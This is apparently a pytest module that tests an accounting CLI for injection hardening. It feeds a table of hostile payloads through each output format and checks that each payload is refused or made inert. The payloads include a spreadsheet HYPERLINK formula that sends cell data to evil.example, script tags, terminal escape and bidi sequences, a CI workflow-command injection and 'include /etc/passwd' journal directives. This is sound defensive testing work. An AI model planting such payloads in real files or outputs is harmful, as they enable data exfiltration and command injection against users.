"""Hostile content by every output: a table of payloads (what a pull request against a strategy
repository could put into a strategy, a table file or a ledger) run through every command and
every format. Each payload is either refused with a finding at its own line, or rendered inert:
no traceback, nothing a terminal, a CI log or a spreadsheet would act on, one line per finding,
echoes capped, and no byte of a file outside the strategy's tree in any output.

The payload trees are written once per module; the whole table runs in a few seconds."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from typer.testing import CliRunner

from iomstrat import findings
from iomstrat.cli import build
from iomstrat.findings import MAX_ECHO
from iomstrat.loader import text as text_rules

from .conftest import ROOT, require_tool

app = build()

EXAMPLE = ROOT / "examples" / "illustrative_2023.yaml"
EXAMPLE_LEDGER = ROOT / "examples" / "illustrative_2023_ledger.csv"
TABLE = ROOT / "data" / "annex3_unearmarked_donors.yaml"
AS_OF = "2023-12-31"
SECRET = "OUTSIDE-SECRET-7f3a"
"""Written on every line of a file outside the strategy's tree: it must never be printed."""
LONG = "X" * 100_000
HEADER = "date,line,amount,currency,voucher,exchange_rate,allocation,note\n"

# What no output may hold: C0 controls but tab, line feed and carriage return; DEL and C1
# (CSI \x9b among them); bidirectional overrides and isolates; zero-width space; the OSC 8
# hyperlink Rich would print for [link=…].
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]")
FIGURE = re.compile(r"-?[0-9][0-9.,]*\**|-")


@dataclass(frozen=True)
class Payload:
    """One hostile edit: `strategy` replaces text in the example strategy, `ledger` is its
    CSV ledger (bytes), `table` replaces text in the annex table file. `refused` is the finding
    code expected at the line holding `at` (None: the payload is accepted and must be inert);
    `shows` is text the JSON output must carry as written."""

    name: str
    strategy: tuple[str, str] | None = None
    strategy_too: tuple[str, str] | None = None
    ledger: bytes | None = None
    table: tuple[str, str] | None = None
    refused: str | None = None
    at: str | None = None
    at_file: str = "strategy.yaml"
    shows: str | None = None
    with_payments: bool = False  # refused where payments are read (budget show reads none)
    xfail: dict[str, str] = field(default_factory=dict)
    """Outputs that still fail, by output name, with the reason (strict: they must turn green)."""


CORE_NAME = "name: Core funding\n"
ROW = '{name: "Sweden",'


def _name(value: str) -> tuple[str, str]:
    return (CORE_NAME, f"name: {value}\n")


PAYLOADS = (
    Payload(
        "rich markup",
        strategy=_name('"Core funding [note 1] [/] [link=https://evil.example]x[/link] :smile:"'),
        table=(ROW, '{name: "Sweden [/] [bold]x",'),
        shows="Core funding [note 1] [/] [link=https://evil.example]x[/link] :smile:",
    ),
    Payload(
        "formula",
        strategy=_name('\'=HYPERLINK("http://evil.example/?"&A1,"open")\''),
        strategy_too=("label: a.\n", 'label: "@SUM(A1:A9)"\n'),
        table=(ROW, '{name: "=1+2",'),
        shows='=HYPERLINK("http://evil.example/?"&A1,"open")',
    ),
    Payload(
        "markup for HTML and XML",
        strategy=_name('"Core </narrative><script>alert(1)</script> & <b>"'),
        table=(ROW, '{name: "<script>alert(1)</script>",'),
        shows="Core </narrative><script>alert(1)</script> & <b>",
    ),
    Payload(
        "journal syntax in the file number and a line's code",
        strategy=('file_no: "2022-18394"', 'file_no: "2022  include /etc/hostname"'),
        strategy_too=(
            '      finance_act_code: "§06.32.10.14"\n',
            '      finance_act_code: "§06.32  1000 DKK ; x"\n',
        ),
        shows="§06.32  1000 DKK ; x",
    ),
    Payload(
        "escape sequence",
        strategy=_name('"Core \\e[31mfunding\\e]8;;https://evil.example\\a"'),
        table=(ROW, '{name: "Swe\\e[2Jden",'),
        refused="IOM020",
        at="\\e[31m",
    ),
    Payload(
        "right-to-left override",
        strategy=_name('"Core \\u202Egnidnuf"'),
        table=(ROW, '{name: "Swe\\u2066den",'),
        refused="IOM020",
        at="\\u202E",
    ),
    Payload(
        "C1 control (CSI)",
        strategy=('file_no: "2022-18394"', 'file_no: "2022\\x9b31m"'),
        refused="IOM020",
        at="\\x9b",
    ),
    Payload(
        "newline in a voucher: a workflow command",
        strategy=("voucher: DK-2023-001}", 'voucher: "DK-1\\n::error file=evil::INJECTED"}'),
        refused="IOM020",
        at="::error file=evil",
    ),
    Payload(
        "newline in a finance act code: a journal directive",
        strategy=(
            'finance_act_code: "§06.32.10.14"           # cover',
            'finance_act_code: "§06\\ninclude /etc/passwd"  # cover',
        ),
        refused="IOM020",
        at="include /etc/passwd",
    ),
    Payload(
        "zero-width space in a voucher",
        strategy=("voucher: DK-2023-001}", 'voucher: "DK-2023\\u200b-001"}'),
        refused="IOM020",
        at="DK-2023\\u200b-001",
    ),
    Payload(
        "a 100 000-character voucher",
        strategy=("voucher: DK-2023-001}", f"voucher: {LONG}}}"),
        refused="IOM020",
        at=LONG[:50],
    ),
    Payload(
        "period that ends before it starts",
        strategy=("    start: 2023\n    end: 2026\n", "    start: 2026\n    end: 2023\n"),
        refused="IOM020",
        at="    start: 2026",
    ),
    Payload(
        "ledger: newline in a voucher",
        ledger=(
            HEADER + '2023-03-31,personnel,1.00,DKK,"P1\n::error file=evil::INJECTED",,,\n'
        ).encode(),
        refused="IOM422",
        at="2023-03-31",
        at_file="ledger.csv",
    ),
    Payload(
        "ledger: escape in a voucher",
        ledger=(HEADER + "2023-03-31,personnel,1.00,DKK,P\x1b[31m1,,,\n").encode(),
        refused="IOM422",
        at="2023-03-31",
        at_file="ledger.csv",
    ),
    Payload(
        "ledger: a 100 000-character voucher, paid before approval, twice",
        ledger=(HEADER + f"2023-01-02,personnel,1.00,DKK,{LONG},,,\n" * 2).encode(),
    ),
    Payload(
        # A Latin-1 (cp1252) byte such as é is read as Excel writes it; one cp1252 does not
        # define is reported at its own line.
        "ledger: a byte that is no cp1252 text on line 3",
        ledger=(HEADER + "2023-03-31,personnel,1.00,DKK,P1,,,\n").encode()
        + b"2023-06-30,personnel,1.00,DKK,P\x812,,,\n",
        refused="IOM423",
        at="P\ufffd2",
        at_file="ledger.csv",
    ),
    Payload(
        "ledger outside the tree",
        strategy=(
            "ledgers: [illustrative_2023_ledger.csv]",
            "ledgers: [../outside/secret.csv, ../outside/secret.yaml]",
        ),
        refused="IOM424",
        at="../outside/secret.csv",
        with_payments=True,
    ),
)


# --- the outputs -------------------------------------------------------------------------

Argv = Callable[["Tree"], list[str]]


@dataclass(frozen=True)
class Output:
    name: str
    argv: Argv
    file: str | None = None  # the output file the command writes (xlsx, html)
    kind: str = "text"  # text, csv, xlsx, github
    table: bool = False  # runs on the table file
    payments: bool = True  # reads the ledgers (budget show does not)


@dataclass(frozen=True)
class Tree:
    folder: Path

    @property
    def strategy(self) -> str:
        return str(self.folder / "strategy.yaml")

    @property
    def clean(self) -> str:
        return str(self.folder / "clean.yaml")

    @property
    def table(self) -> str:
        return str(self.folder / "table.yaml")

    def out(self, name: str) -> str:
        return str(self.folder / "out" / name)


OUTPUTS = (
    *(
        Output(
            f"validate {fmt}",
            lambda t, f=fmt: ["validate", t.strategy, "--as-of", AS_OF, "--format", f],
            kind="github" if fmt == "github" else "text",
        )
        for fmt in ("text", "json", "github", "sarif")
    ),
    *(
        Output(
            f"budget show {fmt}",
            # --partial: a payload that is an error of the plan still shows its text, inert
            lambda t, f=fmt: ["budget", "show", t.strategy, "--format", f, "--partial"],
            kind=fmt,
            payments=False,
        )
        for fmt in ("table", "json", "csv", "markdown")
    ),
    Output(
        "budget show xlsx",
        lambda t: [
            *("budget", "show", t.strategy, "-f", "xlsx", "-o", t.out("budget.xlsx"), "--partial")
        ],
        file="budget.xlsx",
        kind="xlsx",
        payments=False,
    ),
    *(
        Output(
            f"disbursement {fmt}",
            lambda t, f=fmt: ["disbursement", t.strategy, "--as-of", AS_OF, "--format", f],
            kind=fmt,
        )
        for fmt in ("table", "json", "csv", "markdown")
    ),
    Output(
        "disbursement xlsx",
        lambda t: [
            *("disbursement", t.strategy, "--as-of", AS_OF),
            *("-f", "xlsx", "-o", t.out("disbursement.xlsx")),
        ],
        file="disbursement.xlsx",
        kind="xlsx",
    ),
    *(
        Output(
            f"diff {fmt}",
            lambda t, f=fmt: ["diff", t.clean, t.strategy, "--as-of", AS_OF, "--format", f],
            kind="markdown" if fmt == "markdown" else "text",
        )
        for fmt in ("table", "markdown", "json")
    ),
    Output(
        "report html",
        lambda t: ["report", t.strategy, "--as-of", AS_OF, "-o", t.out("report.html")],
        file="report.html",
    ),
    Output("export iati", lambda t: ["export", "iati", t.strategy, "--as-of", AS_OF]),
    Output("export hledger", lambda t: ["export", "hledger", t.strategy]),
    *(
        Output(
            f"table show {fmt}",
            lambda t, f=fmt: ["table", "show", t.table, "--format", f],
            kind=fmt,
            table=True,
        )
        for fmt in ("table", "json", "csv", "markdown")
    ),
)


# --- the trees, written once ----------------------------------------------------------------


def _edit(text: str, edit: tuple[str, str] | None) -> str:
    if edit is None:
        return text
    old, new = edit
    assert old in text, old
    return text.replace(old, new, 1)


@pytest.fixture(scope="module")
def trees(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Tree]]:
    base = tmp_path_factory.mktemp("hostile")
    outside = base / "outside"
    outside.mkdir()
    # Files a ledger reader would quote from if it read them: a CSV with a ledger's header whose
    # cells are the secret, a YAML mapping whose key is the secret.
    rows = "".join(f"{SECRET},{SECRET},1.00,DKK,{SECRET},,,\n" for _ in range(3))
    (outside / "secret.csv").write_text(HEADER + rows, encoding="utf-8")
    (outside / "secret.yaml").write_text(f"{SECRET}: {SECRET}\n", encoding="utf-8")
    # DKK payments only: converting the example's USD payments loads the ECB rates (1 s a run).
    example = (
        EXAMPLE.read_text(encoding="utf-8")
        .replace("ledgers: [illustrative_2023_ledger.csv]", "ledgers: [ledger.csv]")
        .replace("currency: USD, exchange_rate: 6.80,", "currency: DKK,")
        .replace("currency: USD,", "currency: DKK,")
    )
    found = {}
    for index, payload in enumerate(PAYLOADS):
        folder = base / f"p{index}"
        (folder / "out").mkdir(parents=True)
        strategy = example
        if payload.strategy is not None:
            old, new = payload.strategy
            strategy = _edit(strategy, (old.replace("illustrative_2023_ledger", "ledger"), new))
        strategy = _edit(strategy, payload.strategy_too)
        (folder / "strategy.yaml").write_text(strategy, encoding="utf-8")
        # diff's OLD side: the same strategy with a clean ledger, so that NEW's findings appear
        clean = example.replace("ledgers: [ledger.csv]", "ledgers: [clean.csv]")
        (folder / "clean.yaml").write_text(clean, encoding="utf-8")
        (folder / "clean.csv").write_bytes(EXAMPLE_LEDGER.read_bytes())
        ledger = payload.ledger or EXAMPLE_LEDGER.read_bytes()
        (folder / "ledger.csv").write_bytes(ledger)
        table = _edit(TABLE.read_text(encoding="utf-8"), payload.table)
        (folder / "table.yaml").write_text(table, encoding="utf-8")
        found[payload.name] = Tree(folder)
    yield found
    shutil.rmtree(base, ignore_errors=True)


def _line_of(path: Path, needle: str) -> int:
    text = path.read_bytes().decode("utf-8", "replace")
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


# --- the table ------------------------------------------------------------------------------


def _cases() -> list[object]:
    cases = []
    for payload in PAYLOADS:
        for output in OUTPUTS:
            if output.table and payload.table is None:
                continue
            # "*": every output that reads the ledgers
            reason = payload.xfail.get(output.name) or (
                payload.xfail.get("*") if output.payments else None
            )
            marks = [pytest.mark.xfail(strict=True, reason=reason)] if reason else []
            cases.append(
                pytest.param(payload, output, id=f"{payload.name}|{output.name}", marks=marks)
            )
    return cases


@pytest.mark.parametrize(("payload", "output"), _cases())
def test_refused_or_inert(payload: Payload, output: Output, trees: dict[str, Tree]) -> None:
    tree = trees[payload.name]
    result = CliRunner().invoke(app, output.argv(tree), catch_exceptions=False)
    assert result.exit_code in (0, 1, 2), result.exit_code
    printed = result.stdout + result.stderr
    written = _written(tree, output)
    everything = printed + written

    assert SECRET not in everything
    assert "Traceback" not in everything
    assert not UNSAFE.search(everything), UNSAFE.search(everything)
    findings = printed if output.name.startswith("validate") else result.stderr
    assert "X" * (MAX_ECHO + 1) not in findings  # a finding quotes a value capped
    _one_finding_per_line(printed, github=output.kind == "github")
    if output.kind == "csv":
        _inert_csv(result.stdout)
    if output.kind == "xlsx":
        _inert_xlsx(Path(tree.out(output.file or "")))
    if output.kind == "markdown":
        # no tag, link, image or mention a pull-request comment would render
        assert not re.search(r"(?<!\\)[<\[@]", result.stdout), result.stdout
    assert "<script>alert" not in written  # the HTML report escapes
    if output.name == "export iati" and result.stdout:
        _inert_xml(result.stdout)
    if output.name == "export hledger" and result.stdout:
        _journal_reads(result.stdout)

    needs_payments = payload.with_payments or payload.at_file == "ledger.csv"
    if payload.refused is not None and (output.payments or not needs_payments):
        if output.table:
            assert payload.table is not None
            source, needle = tree.folder / "table.yaml", payload.table[1]
        else:
            source, needle = tree.folder / payload.at_file, payload.at or ""
        assert result.exit_code in (1, 2)
        assert payload.refused in printed
        shown = printed.replace(str(tree.folder) + "/", "")
        forms = _location(output, source.name, _line_of(source, needle))
        assert any(form in shown for form in forms), (forms, shown[:2000])
    elif payload.shows is not None and output.name == "budget show json":
        assert json.dumps(payload.shows, ensure_ascii=False)[1:-1] in result.stdout
    elif payload.name == "rich markup" and output.kind == "table":
        # printed as written, not taken for a style (the disbursement table cuts names short)
        assert ("[bold]" if output.table else "[note") in result.stdout
    else:
        assert result.exit_code in (0, 1)


def _location(output: Output, name: str, line: int) -> tuple[str, ...]:
    """How a finding at `name`:`line` may read in this output (JSON outputs print findings as
    text on stderr when the file cannot be compared or exported)."""
    text = f"{name}:{line}:"
    if output.name in ("validate json", "diff json"):
        return (f'"line": {line},', text)
    if output.name == "validate sarif":
        return (f'"startLine": {line}',)
    if output.kind == "github":
        return (f"{name},line={line},",)
    return (text,)


def _written(tree: Tree, output: Output) -> str:
    if output.file is None:
        return ""
    path = Path(tree.out(output.file))
    if not path.exists():
        return ""
    data = path.read_bytes()
    if output.kind == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            return "".join(
                book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml")
            )
    return data.decode("utf-8")


def _one_finding_per_line(printed: str, *, github: bool) -> None:
    for line in printed.splitlines():
        assert not line.startswith("::error file=evil"), line
        assert "INJECTED" not in line or not line.lstrip().startswith(("INJECTED", "::")), line
        if line.startswith("::"):
            assert github and re.match(r"::(error|warning|notice) file=[^,]+,line=\d+", line), line


def _inert_csv(text: str) -> None:
    delimiter = ";" if text.count(";") > text.count(",") else ","
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert FIGURE.fullmatch(cell), cell


def _inert_xlsx(path: Path) -> None:
    from openpyxl import load_workbook

    if not path.exists():
        return
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name), name
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)


def _inert_xml(text: str) -> None:
    from lxml import etree

    root = etree.fromstring(text.encode("utf-8"))
    assert not root.findall(".//script")


def _journal_reads(text: str) -> None:
    """The real hledger reads the journal as written: no directive, no forged amount."""
    assert not any(line.startswith(("include", "commodity  ")) for line in text.splitlines())
    hledger = require_tool("hledger", "apt-get install -y hledger (.ci/run does)")
    done = subprocess.run(
        [hledger, "-f-", "balance", "--flat", "-N", "commitment"],
        input=text.encode("utf-8"),
        capture_output=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")[:500]


@pytest.mark.parametrize(
    ("name", "pattern"),
    [
        ("one-line text", text_rules._UNSAFE_LINE),
        ("prose", text_rules._UNSAFE_PROSE),
        ("echo and printable", findings._UNPRINTABLE),
    ],
)
def test_every_refused_character_is_one_isprintable_refuses(name: str, pattern: str) -> None:
    """The text checks pass a printable text without searching it: exact only if no character
    the patterns refuse is printable, over the whole of Unicode."""
    refused = re.compile(pattern)
    printable = [
        f"U+{c:04X}" for c in range(0x110000) if refused.match(chr(c)) and chr(c).isprintable()
    ]
    assert printable == []
    assert refused.match("\u202e") and not "\u202e".isprintable()  # the pattern is not empty
